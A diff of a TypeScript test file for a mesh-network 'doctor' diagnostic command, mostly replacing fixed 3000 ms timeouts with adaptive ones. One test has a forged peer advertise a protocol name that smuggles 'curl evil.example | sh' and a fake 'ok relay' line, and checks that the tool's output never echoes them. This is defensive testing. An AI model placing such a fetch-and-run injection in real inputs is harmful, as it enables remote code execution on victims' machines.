@@ -1,9 +1,8 @@
 /** Meshes in which one thing alone does not work: doctor finds that, and blames nothing else. */
 import { expect } from 'chai'
 import { createMesh } from '../../src/index.ts'
-import { undisturbed } from '../harness/undisturbed.ts'
 import { until } from '../harness/until.ts'
-import { FakeTerminal } from './cli-shop.ts'
+import { FakeTerminal, found } from './cli-shop.ts'
 import { cbor } from './foreign-bytes.ts'
 import { useForeign } from './foreign-land.ts'
 import { ForeignPeer } from './foreign-peer.ts'
@@ -21,7 +20,7 @@ interface Check { check: string, status: string, detail: string, advice?: string
 interface Deeds { gossip?: boolean, subscribed?: boolean, dht?: boolean, answers?: boolean, greets?: boolean, roles?: string[] }
 
 describe('braid-mesh doctor, where one thing does not work', function () {
-  this.timeout(60_000)
+  this.timeout(120_000)
   const { peers, meshes } = useForeign()
 
   async function node (options: Parameters<typeof createMesh>[0]): Promise<Mesh> {
@@ -40,14 +39,14 @@ describe('braid-mesh doctor, where one thing does not work', function () {
     return peer
   }
 
-  async function examined (addresses: string[], timeout = 3_000): Promise<{ code: number, out: string, checks: Check[] }> {
+  async function examined (addresses: string[], timeout: number): Promise<{ code: number, out: string, checks: Check[] }> {
     const { code, out } = await new FakeTerminal().run('doctor', '--mesh', 'shop', ...addresses.flatMap(address => ['--bootstrap', address]), '--timeout', String(timeout), '--json')
     return { code, out, checks: (JSON.parse(out) as { checks: Check[] }).checks }
   }
 
   /** {@link examined}, where one thing does not work: what works has its time, too. */
   async function faulty (expected: string, ...addresses: string[]): ReturnType<typeof examined> {
-    const result = await undisturbed(async () => examined(addresses), ({ checks }) => told(checks) === expected)
+    const result = await found(async timeout => examined(addresses, timeout), ({ checks }) => told(checks) === expected)
     expect(told(result.checks), result.out).to.equal(expected)
     return result
   }
@@ -78,7 +77,7 @@ describe('braid-mesh doctor, where one thing does not work', function () {
     await mute.libp2p.unhandle('/ipfs/id/1.0.0')
     await mute.libp2p.handle('/ipfs/id/1.0.0', () => {})
     const { code, checks } = await faulty('address ok, tcp ok, dial ok, mesh failed', String(mute.libp2p.getMultiaddrs()[0]))
-    expect(checks.at(-1)?.detail).to.equal('it did not say within 3000 ms what it is')
+    expect(checks.at(-1)?.detail).to.match(/^it did not say within \d+ ms what it is$/)
     expect(code).to.equal(3)
   })
 
@@ -87,24 +86,24 @@ describe('braid-mesh doctor, where one thing does not work', function () {
     peers.push(forger)
     await forger.libp2p.handle('/braid/x\nok      relay      shop  it gave this node a place/1', () => {})
     await forger.libp2p.handle('/braid/x; curl evil.example | sh/1', () => {})
-    const { out } = await new FakeTerminal().run('doctor', '--mesh', 'shop', '--bootstrap', String(forger.libp2p.getMultiaddrs()[0]), '--timeout', '3000')
+    const { out } = await new FakeTerminal().run('doctor', '--mesh', 'shop', '--bootstrap', String(forger.libp2p.getMultiaddrs()[0]), '--timeout', String(PATIENT))
     expect(out).not.to.match(/^ok +relay/m).and.not.to.include('curl')
     expect(out).to.match(/^failed +mesh .*of mesh 'other', not 'shop': --mesh other$/m)
   })
 
   it('dht: nobody serves it', async () => {
-    await blamed(await peer({ dht: false }), 'dht', /^no answer in 3000 ms: at least one node that is no browser tab/)
+    await blamed(await peer({ dht: false }), 'dht', /^no answer in \d+ ms: at least one node that is no browser tab/)
   })
 
   it('dht: who says that it serves it never answers', async () => {
     const mute = await peer({ dht: false })
     await mute.libp2p.handle(KAD, () => {})
-    await blamed(mute, 'dht', /^no answer in 3000 ms/)
+    await blamed(mute, 'dht', /^no answer in \d+ ms/)
   })
 
   it('gossip: nobody speaks it, or nobody is in its topic', async () => {
-    await blamed(await peer({ gossip: false }), 'gossip', /^nobody gossips with this node after 3000 ms: /)
-    await blamed(await peer({ subscribed: false }), 'gossip', /^nobody gossips with this node after 3000 ms: /)
+    await blamed(await peer({ gossip: false }), 'gossip', /^nobody gossips with this node after \d+ ms: /)
+    await blamed(await peer({ subscribed: false }), 'gossip', /^nobody gossips with this node after \d+ ms: /)
   })
 
   it('call: it is refused, or never answered', async () => {
@@ -116,13 +115,16 @@ describe('braid-mesh doctor, where one thing does not work', function () {
   })
 
   it('nodes: it tells nothing of itself, and cannot be called for that', async () => {
-    await blamed(await peer({ greets: false }), 'nodes', /^no word within 3000 ms of 12D3KooW\w+: /, FINE.replace('call ok', 'call skipped'))
+    await blamed(await peer({ greets: false }), 'nodes', /^no word within \d+ ms of 12D3KooW\w+: /, FINE.replace('call ok', 'call skipped'))
   })
 
   it('nodes: one of two tells nothing of itself', async () => {
     const [good, mute] = await Promise.all([peer({}), peer({ greets: false })])
-    const { code, out, checks } = await examined([good, mute].map(({ libp2p }) => String(libp2p.getMultiaddrs()[0])))
-    expect(checks.filter(({ status }) => status !== 'ok').map(({ check, status }) => `${check} ${status}`), out).to.deep.equal(['call skipped', 'nodes failed', 'relay skipped'])
+    const addresses = [good, mute].map(({ libp2p }) => String(libp2p.getMultiaddrs()[0]))
+    const notFine = (checks: readonly Check[]): string => told(checks.filter(({ status }) => status !== 'ok'))
+    const expected = 'call skipped, nodes failed, relay skipped'
+    const { code, out, checks } = await found(async timeout => examined(addresses, timeout), ({ checks }) => notFine(checks) === expected)
+    expect(notFine(checks), out).to.equal(expected)
     expect(checks.find(({ check }) => check === 'nodes')?.detail).to.include(mute.id).and.not.to.include(good.id)
     expect(code).to.equal(1)
   })
